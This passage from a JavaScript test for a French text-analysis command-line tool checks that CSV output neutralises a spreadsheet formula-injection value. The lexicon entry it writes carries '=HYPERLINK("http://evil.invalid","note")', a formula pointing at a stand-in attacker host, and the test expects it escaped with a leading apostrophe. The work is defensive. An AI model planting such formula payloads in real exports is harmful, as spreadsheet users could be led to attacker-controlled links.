    write('formula-note.json', JSON.stringify({ lang: 'fr', entries: [{ id: 'capteur', category: 'surveillance', patterns: ['capteur'], weight: 1, note: '=HYPERLINK("http://evil.invalid","note")', section: 'OUVERTURE' }] }));
    write('formula/texte.txt', documentText(0));
    const run = novlangue(['formula', '-f', 'csv', '--per', 'finding', '--lexicon', 'formula-note.json', '--lexicon-only', '-q']);
    expect(run.status).toBe(0);
    const rows = parseCsv(run.stdout).slice(1).filter((row) => row[CSV_FINDING_COLUMNS.indexOf('rule_id')] === 'fr.capteur');
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row[CSV_FINDING_COLUMNS.indexOf('note')]).toBe('\'=HYPERLINK("http://evil.invalid","note")');
  });
});
